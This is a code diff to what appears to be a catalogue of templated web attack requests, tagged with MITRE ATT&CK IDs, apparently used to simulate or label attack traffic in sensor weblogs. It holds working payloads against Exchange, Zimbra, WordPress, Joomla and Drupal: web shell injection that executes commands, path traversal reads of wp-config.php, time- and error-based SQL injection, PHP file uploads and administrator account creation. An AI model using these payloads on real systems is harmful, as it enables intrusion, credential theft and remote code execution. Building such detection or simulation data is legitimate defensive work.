@@ -11,6 +11,8 @@ _files = attack("Path Traversal / Directory Traversal Attack", "T1083", "T1190",
 _bypass = attack("Remote Code Execution Exploit", "T1190", severity="HIGH")
 _secrets = attack("Credential Theft", "T1552.001", "T1190", severity="HIGH")
 _guess = attack("Brute Force Attack", "T1078.001", "T1110.001", severity="HIGH")
+_waiting = attack("SQL Injection — Time-based Blind SQLi", "T1190", severity="HIGH")
+_faulty = attack("SQL Injection — Error-based SQLi", "T1190", severity="HIGH")
 _sql = attack("SQL Injection — Union/Boolean SQLi", "T1190", severity="HIGH")
 _xxe = attack("Server-Side Request Forgery (SSRF) Attempt", "T1190", severity="HIGH")
 
@@ -26,7 +28,6 @@ GET /cgi-bin/test?{n}=«`{cmd}`»
 """, _secrets: """
 GET /System/configurationFile?auth=YWRtaW46MTEK
 GET /Security/users?auth=YWRtaW46MTEK
-GET /onvif-http/snapshot?auth=YWRtaW46MTEK
 GET /current_config/passwd
 GET /device.rsp?opt=user&cmd=list ¦ Cookie: uid=admin
 GET /system.ini?loginuse&loginpas
@@ -120,7 +121,6 @@ POST /ecp/{word}.js ¦ Cookie: X-BEResource=localhost~1942062522; X-AnonResource
 POST /ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary={hex} ¦¦ {"properties":{"Parameters":{"ExternalUrl":"http://ffff/#<script language=\\"JScript\\" runat=\\"server\\">function Page_Load(){eval(Request[\\"{word}\\"],\\"unsafe\\");}</script>"}}}
 POST /owa/auth/{word}.aspx ¦¦ c=«Response.Write(new ActiveXObject("WScript.Shell").Exec("{cmd}").StdOut.ReadAll())»
 POST /service/extension/backup/mboximport?account-name=admin&ow=2&no-switch=1&append=1 ¦¦ PK../../../../mailboxd/webapps/zimbraAdmin/{word}.jsp {page}
-GET /mailsms/s?func=ADMIN:appState&dumpConfig=/
 """, _xxe: """
 POST /Autodiscover/Autodiscover.xml ¦¦ <!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///{secret}">]><Autodiscover><Request><EMailAddress>aaaaa</EMailAddress><AcceptableResponseSchema>&xxe;</AcceptableResponseSchema></Request></Autodiscover>
 GET /service/error/sfdc_preauth.jsp?session=s&userid=1&server=«http://{outside}#.salesforce.com/»
@@ -145,19 +145,28 @@ GET /owa/?realm={domain}&exsvurl=1&ll-cc=1031
 topic("sensor-weblogs-exploited sensor-weblogs-edited", "sql access upload leak code", "WordPress 插件任意文件上传|WordPress REST API 用户枚举|WordPress 插件 SQL注入|Joomla 未授权访问(CVE-2023-23752)|Drupal 远程代码执行(CVE-2018-7600)|CMS 漏洞利用", {
     _sql: """
 GET /wp-admin/admin-ajax.php?action=⟨wpdm_ajax_call_exec|get_question|load_items⟩&question_id=«{n} union select 1,user_login,user_pass from wp_users-- -»
-GET /?rest_route=/pmpro/v1/order&code=«a' OR (SELECT 1 FROM (SELECT(SLEEP(5)))b)-- -»
-POST /wp-admin/admin-ajax.php ¦¦ action=ays_sccp_results_export_file&sccp_id[]=«3) AND (SELECT 5 FROM (SELECT(SLEEP(5)))a) AND (7=7»
-GET /index.php?option=com_fields&view=fields&layout=modal&list[fullordering]=«updatexml(0x23,concat(1,user()),1)»
 GET /index.php?option=com_{word}&id=«{sqli}»
 POST /?q=node&destination=node ¦¦ name[0%20;update+users+set+name='{word}',pass='{hex}'+where+uid='1';#]=a&name[0]=b&form_id=user_login_block
+""", _waiting: """
+GET /?rest_route=/pmpro/v1/order&code=«a' OR (SELECT 1 FROM (SELECT(SLEEP(5)))b)-- -»
+POST /wp-admin/admin-ajax.php ¦¦ action=ays_sccp_results_export_file&sccp_id[]=«3) AND (SELECT 5 FROM (SELECT(SLEEP(5)))a) AND (7=7»
+GET /wp-admin/admin-ajax.php?action=⟨load_items|get_question|wpdm_ajax_call_exec⟩&id=«{waiting}»
+""", _faulty: """
+GET /index.php?option=com_fields&view=fields&layout=modal&list[fullordering]=«updatexml(0x23,concat(1,user()),1)»
+GET /index.php?option=com_{word}&id=«{faulty}»
+""", _files: """
+GET /wp-content/plugins/{word}/includes/readfile.php?file=../../../../wp-config.php
+GET /wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php
+GET /index.php?option=com_{word}&view=file&path={up}configuration.php
+""", _secrets: """
+GET /api/index.php/v1/config/application?public=true
+GET /wp-config.php.bak?v={hex}
 """, _code: """
 POST /wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php ¦¦ ------W{hex}⏎Content-Disposition: form-data; name="upload[]"; filename="{word}.php"⏎⏎{page}⏎------W--
 POST /user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax ¦¦ form_id=user_register_form&_drupal_ajax=1&mail[#post_render][]=exec&mail[#type]=markup&mail[#markup]=«{cmd}»
 POST /wp-admin/admin-ajax.php?action=revslider_ajax_action ¦¦ client_action=update_plugin&update_file=«{word}.zip»&code=«{page}»
 POST /wp-json/litespeed/v1/cdn_status ¦ X-LSCACHE: {hex} ¦¦ {"role":"administrator","username":"{word}"}
-GET /wp-content/plugins/{word}/includes/readfile.php?file=../../../../wp-config.php
 POST /wp-json/wp/v2/users ¦ Cookie: wordpress_logged_in_{hex}=admin ¦¦ {"username":"{word}","roles":["administrator"],"email":"{word}@{word}.xyz","password":"{word}"}
-GET /api/index.php/v1/config/application?public=true
 POST /index.php?option=com_jce&task=plugin.rpc&plugin=imgmanager ¦¦ json={"fn":"folderRename","args":["/{word}.gif","{word}.php"]}
 """}, """
 POST /wp-admin/admin-ajax.php ¦¦ action=heartbeat&interval=60&screen_id=post&data[wp-refresh-post-lock][post_id]={big}
